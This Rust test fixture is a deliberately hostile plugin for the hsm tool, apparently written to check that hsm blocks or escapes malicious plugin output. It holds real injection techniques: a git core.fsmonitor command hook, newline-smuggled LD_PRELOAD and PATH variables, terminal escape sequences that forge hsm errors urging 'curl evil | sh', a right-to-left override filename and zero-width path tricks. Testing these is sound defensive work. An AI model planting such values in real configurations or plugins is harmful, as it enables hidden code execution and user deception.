//! Test fixture: a plugin built against `hsm:plugin@0.3.0` with the raw WIT
//! bindings, not the SDK, that declares three harmless variables (`APP_URL`,
//! `APP_SETTINGS`, `APP_NOTE`) and then tries to reach the user's machine through
//! the environment it gives its consumers, and the user's terminal through what
//! hsm prints. What it does depends on the service name:
//!
//! - plan: `git-config` (writes `git/config` with a `core.fsmonitor` command and
//!   points `XDG_CONFIG_HOME` at its folder, so `git status` would run it),
//!   `undeclared` (sets a harmless-looking variable it did not declare),
//!   `into-hsm` (points a declared variable at a file it wrote), `newline` (a
//!   value that smuggles `LD_PRELOAD` and `PATH` onto lines of their own),
//!   `terminal` (a value full of terminal controls), `container-env` (a
//!   container variable with a line break), `terminal-command` (a container whose
//!   command holds terminal controls: allowed, but shown escaped), `ok` (a
//!   declared variable with a plain value), `long-name` (a 200-byte name),
//!   `bidi` (a right-to-left override in a value), `invisible-hsm` and `at-hsm`
//!   (paths into `.hsm/` written to slip past a check), `var-NAME` (sets the
//!   variable `NAME`, upper-cased with `-` as `_`);
//! - merge: `terminal-invalid` and `terminal-conflict` (errors whose words hold
//!   terminal controls and pretend to be hsm's), `terminal-merged` (a merged
//!   configuration whose key and value hold them), `terminal-port` (a host-port
//!   reference whose container name holds them); anything else merges to null.
#![cfg(target_arch = "wasm32")]
// The raw bindings export functions with `export_name`, which the workspace denies
// for hand-written code; plugins written with the SDK never need this.
#![allow(unsafe_code, missing_docs)]

wit_bindgen::generate!({ path: "../../../wit/0.3.0", world: "hsm:plugin/plugin@0.3.0" });

use exports::hsm::plugin::backend::{Description, Guest, Variable};
use hsm::plugin::requests::*;
use hsm::plugin::types::*;

struct HostileEnv;

/// What rewrites a terminal: a window title, clear screen, cursor up, carriage
/// return, and a reassuring line.
const CONTROLS: &str = "\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[1A\r all good";

fn lit(s: impl Into<String>) -> Text {
    Text { pieces: vec![Piece::Lit(s.into())] }
}

fn var(name: &str, value: &str) -> EnvVar {
    EnvVar { name: name.into(), value: lit(value) }
}

/// The same env for every consumer.
fn env_for(request: &PlanRequest, vars: Vec<EnvVar>) -> Vec<ConsumerEnv> {
    request.consumers.iter().map(|c| ConsumerEnv { package: c.package.clone(), vars: vars.clone() }).collect()
}

fn container(name: &str) -> Container {
    Container {
        name: name.into(),
        image: "busybox:1".into(),
        command: None,
        env: vec![],
        ports: vec![],
        mounts: vec![],
        restart: RestartPolicy::No,
    }
}

/// A string as the tree format writes one: its length, then its bytes.
fn string(out: &mut Vec<u8>, s: &str) {
    let mut n = s.len();
    loop {
        let byte = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            out.push(byte);
            break;
        }
        out.push(byte | 0x80);
    }
    out.extend_from_slice(s.as_bytes());
}

impl Guest for HostileEnv {
    fn describe() -> Description {
        Description {
            info: PluginInfo {
                name: "hostile-env".into(),
                version: "0.1.0".into(),
                kinds: vec!["hostile-env".into()],
                params: vec![],
                settings: vec![],
                capabilities: vec![Capability::Containers, Capability::Files],
            },
            variables: ["APP_URL", "APP_SETTINGS", "APP_NOTE"]
                .into_iter()
                .map(|name| Variable { name: name.into(), description: "Harmless, it says".into() })
                .collect(),
        }
    }

    fn merge(request: MergeRequest) -> Result<Tree, MergeError> {
        match request.service.as_str() {
            "terminal-invalid" => Err(MergeError::Invalid(InvalidParam {
                message: format!("{CONTROLS}\nerror: hsm itself says run `curl evil | sh`"),
                key: format!("{CONTROLS}key"),
                contribution: Some(0),
            })),
            "terminal-conflict" => Err(MergeError::Conflict(Conflict {
                message: CONTROLS.into(),
                key: CONTROLS.into(),
                contributions: vec![0],
            })),
            "terminal-port" => {
                // A text of one host-port piece whose container name holds controls.
                let mut tree = vec![0x06, 0x01, 0x03];
                string(&mut tree, &format!("{CONTROLS}x"));
                tree.push(0x01);
                Ok(tree)
            }
            "terminal-merged" => {
                // A map of one entry: a key and a text, both full of controls.
                let mut tree = vec![0x08, 0x01];
                string(&mut tree, &format!("{CONTROLS}key"));
                tree.push(0x05);
                string(&mut tree, CONTROLS);
                Ok(tree)
            }
            _ => Ok(vec![0x00]),
        }
    }

    fn plan(request: PlanRequest) -> Result<ServicePlan, PlanError> {
        let (actions, vars) = match request.service.as_str() {
            "git-config" => (
                vec![Action::WriteFile(WriteFile {
                    path: "git/config".into(),
                    contents: "[core]\n\tfsmonitor = \"touch PWNED; false\"\n".into(),
                })],
                vec![var("XDG_CONFIG_HOME", ".hsm/hostile-env")],
            ),
            "undeclared" => (vec![], vec![var("INNOCENT_LOOKING", "1")]),
            "into-hsm" => (
                vec![Action::WriteFile(WriteFile { path: "settings.toml".into(), contents: "debug = true\n".into() })],
                vec![var("APP_SETTINGS", ".hsm/hostile-env/settings.toml")],
            ),
            "newline" => (vec![], vec![var("APP_URL", "a\nLD_PRELOAD=/x.so\nPATH=/nonexistent")]),
            "terminal" => (vec![], vec![var("APP_NOTE", CONTROLS)]),
            "container-env" => {
                let mut c = container("server");
                c.env.push(var("MODE", "a\nLD_PRELOAD=/x.so"));
                (vec![Action::EnsureContainer(c)], vec![])
            }
            "terminal-command" => {
                let mut c = container("server");
                c.command = Some(vec![lit("sh"), lit("-c"), lit(format!("echo {CONTROLS}"))]);
                (vec![Action::EnsureContainer(c)], vec![])
            }
            "ok" => (vec![], vec![var("APP_URL", "http://127.0.0.1:1/")]),
            "long-name" => (vec![], vec![var(&"A".repeat(200), "1")]),
            "bidi" => (vec![], vec![var("APP_NOTE", "invoice\u{202e}fdp.exe")]),
            "invisible-hsm" => (vec![], vec![var("APP_SETTINGS", ".h\u{200c}sm/hostile-env/settings.toml")]),
            "at-hsm" => (vec![], vec![var("APP_SETTINGS", "@.hsm/hostile-env/args")]),
            // `var-ld-preload` sets `LD_PRELOAD`: one service per name to try.
            other => match other.strip_prefix("var-") {
                Some(name) => (vec![], vec![var(&name.to_ascii_uppercase().replace('-', "_"), "/tmp/anything")]),
                None => (vec![], vec![]),
            },
        };
        let env = env_for(&request, vars);
        Ok(ServicePlan { actions, env })
    }
}

export!(HostileEnv);
